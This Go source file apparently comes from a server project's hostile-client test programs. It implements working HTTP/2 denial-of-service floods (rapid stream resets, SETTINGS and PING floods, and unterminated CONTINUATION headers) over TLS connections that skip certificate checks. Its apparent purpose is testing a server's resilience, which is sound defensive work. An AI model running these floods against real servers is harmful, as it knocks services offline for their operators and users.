//go:build linux

package attack

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"io"
	"time"

	"github.com/tainchess/tain/internal/test/programs/hostile/client"
)

// The types and flags of HTTP/2 frames used here.
const (
	headersFrame, resetFrame, settingsFrame, pingFrame, continuationFrame = 1, 3, 4, 6, 9

	endStream, endHeaders = 1, 4
)

// heading is a compressed request header: GET https://x/.
var heading = []byte{0x82, 0x87, 0x84, 0x41, 1, 'x'}

// http2Frame appends an HTTP/2 frame.
func http2Frame(b []byte, kind, flags byte, stream uint32, payload ...byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), kind, flags)
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

// flood sends frames on a few HTTP/2 connections as fast as possible. next appends the n-th group of
// frames of a connection, counted from 0.
func (a *Force) flood(ctx context.Context, next func(b []byte, n uint32) []byte) {
	a.Each(ctx, 4, func(ctx context.Context, _ int) string {
		raw, err := client.Dialer(a.from).DialContext(ctx, "tcp", a.host())
		if err != nil {
			return outcome(ctx, 0, err)
		}
		defer raw.Close()
		defer context.AfterFunc(ctx, func() { raw.Close() })()
		// The attacker need not verify the server's certificate.
		c := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
		if err := c.HandshakeContext(ctx); err != nil {
			client.Pause(ctx, 20*time.Millisecond)
			return outcome(ctx, 0, err)
		}
		go io.Copy(io.Discard, c) // otherwise the server stops reading
		batch := http2Frame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), settingsFrame, 0, 0)
		for n := uint32(0); ctx.Err() == nil && n < 1<<30; {
			from := n
			for ; len(batch) < 4<<10; n++ {
				batch = next(batch, n)
			}
			if _, err := c.Write(batch); err != nil {
				return outcome(ctx, 0, err)
			}
			a.Add("frames", int(n-from))
			batch = batch[:0]
		}
		return "given up"
	})
}

// attackResets opens streams and resets them immediately.
func attackResets(ctx context.Context, a *Force) {
	a.flood(ctx, func(b []byte, n uint32) []byte {
		stream := 2*n + 1
		b = http2Frame(b, headersFrame, endStream|endHeaders, stream, heading...)
		return http2Frame(b, resetFrame, 0, stream, 0, 0, 0, 8)
	})
}

// attackSettings sends settings frames, each of which the server must acknowledge.
func attackSettings(ctx context.Context, a *Force) {
	a.flood(ctx, func(b []byte, _ uint32) []byte { return http2Frame(b, settingsFrame, 0, 0) })
}

// attackPings sends pings, each of which the server must answer.
func attackPings(ctx context.Context, a *Force) {
	a.flood(ctx, func(b []byte, _ uint32) []byte { return http2Frame(b, pingFrame, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8) })
}

// attackContinuations begins a header and never ends it.
func attackContinuations(ctx context.Context, a *Force) {
	a.flood(ctx, func(b []byte, n uint32) []byte {
		if n == 0 {
			return http2Frame(b, headersFrame, endStream, 1, heading...)
		}
		return http2Frame(b, continuationFrame, 0, 1)
	})
}
